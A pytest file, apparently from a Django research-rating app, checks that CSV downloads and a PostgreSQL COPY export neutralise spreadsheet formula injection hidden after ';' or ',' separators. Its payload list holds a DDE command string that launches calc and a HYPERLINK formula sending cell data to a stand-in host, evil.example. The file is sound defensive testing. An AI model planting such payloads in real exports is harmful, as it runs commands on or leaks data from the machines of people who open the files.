"""A spreadsheet whose list separator is ';' (most of continental Europe) splits a CSV line at
every ';', quoted or not, and one that ignores quotes splits at every ','. A text cell such as
the rationale `fine;=1+1` then holds a second cell `=1+1`, which the spreadsheet runs as a
formula. Downloaded over real HTTP from a running server, as researchers and admins get them:
no piece after a separator may start a formula, in ratings.csv, the API export and the audit
CSV; and PostgreSQL's COPY export (analysis/copy_export.py) applies the same rule as Python's
writer (annotation/csvsafe.py)."""

from __future__ import annotations

import re

import pytest
import requests
from django.db import connection
from django.urls import reverse

from analysis.copy_export import safe
from annotation.csvsafe import DANGEROUS_FIRST, NUMBER, cell_unescaped, reversible_cell, safe_cell
from annotation.models import Rating, RatingChange
from tests.factories import small_study_make, user_make
from tests.live_session import LiveSession
from tests.second_factor import totp_code, totp_enrol

PAYLOADS = [
    "fine;=1+1",
    "ok, -2+3+cmd|' /C calc'!A0",
    'see;  "=HYPERLINK(""http://evil.example/?""&A1)"',
    "two;\t@SUM(1)",
    "wide;＝1+1",
]
SEPARATED_NUMBERS = ["scores 3;-1", "from 4, -0.5", "1;+2"]


def formula_pieces(text: str) -> list[str]:
    """The pieces of each line after a ';' or a ',' (quotes ignored, as such a spreadsheet
    does) that would start a formula: no text or number-only pieces."""
    found = []
    for line in text.splitlines():
        for separator in (";", ","):
            for piece in line.split(separator)[1:]:
                start = piece.lstrip(' \t\r\n"')
                if (
                    start
                    and start[0] in DANGEROUS_FIRST
                    and not NUMBER.fullmatch(start.rstrip(' \t\r\n"'))
                ):
                    found.append(piece)
    return found


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_separator_before_a_formula_is_neutralised(text):
    written = safe_cell(text)
    assert formula_pieces(written) == []
    assert written.replace("'", "") == text.replace("'", "")  # the text itself is all there


@pytest.mark.parametrize("text", SEPARATED_NUMBERS + ["a;b", "x, y", "plain"])
def test_numbers_and_text_after_a_separator_are_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "text", [*PAYLOADS, *SEPARATED_NUMBERS, "a;'=b", "a;''=b", "a,'x", "'=a;=b", "=a;'-b"]
)
def test_the_reversible_escape_comes_back_exactly(text):
    written = reversible_cell(text)
    assert formula_pieces(written) == []
    assert cell_unescaped(written) == text


@pytest.mark.django_db
@pytest.mark.parametrize(
    "text", [*PAYLOADS, *SEPARATED_NUMBERS, "plain", "", "=start;=inner", "-0.5", "a;b,-c"]
)
def test_postgresqls_copy_export_applies_the_same_rule(text):
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {safe('v')} FROM (SELECT %s::text AS v) AS cell", [text])
        (in_sql,) = cursor.fetchone()
    assert in_sql == (safe_cell(text) or None)


@pytest.mark.django_db(transaction=True)
def test_downloads_carry_no_formula_after_a_separator(live_server, settings):
    small = small_study_make()
    study = small.study
    ratings = list(
        Rating.objects.filter(rater__in=small.clinicians, status="complete").order_by("pk")[
            : len(PAYLOADS)
        ]
    )
    for rating, text in zip(ratings, PAYLOADS, strict=True):
        Rating.objects.filter(pk=rating.pk).update(rationale=text)
        RatingChange.objects.create(rating=rating, field="rationale", old_value="", new_value=text)
    researcher = user_make(username="rhea", password="pw-Rhea-9876", role="researcher")
    boss = user_make(username="boss", password="pw-Boss-9876", is_staff=True, is_superuser=True)
    totp_enrol(boss)
    from knox.models import AuthToken

    _, token = AuthToken.objects.create(user=researcher)

    reader = LiveSession(live_server.url)
    reader.sign_in("rhea", "pw-Rhea-9876")
    admin = LiveSession(live_server.url)
    assert admin.sign_in("boss", "pw-Boss-9876", code=totp_code()) == "/"
    downloads = {
        "ratings.csv": reader.get(reverse("analysis:ratings_csv", args=[study.pk])),
        "API export": requests.get(
            f"{live_server.url}/api/studies/{study.pk}/export/",
            headers={"Authorization": f"Token {token}"},
            timeout=30,
        ),
        "audit CSV": admin.get(reverse("annotation:manage_audit") + "?format=csv"),
    }
    for name, response in downloads.items():
        assert response.status_code == 200, (name, response.status_code, response.headers)
        text = response.content.decode()
        assert re.search(r"fine;'=1\+1", text), name  # the rationale is there, neutralised
        assert formula_pieces(text) == [], name
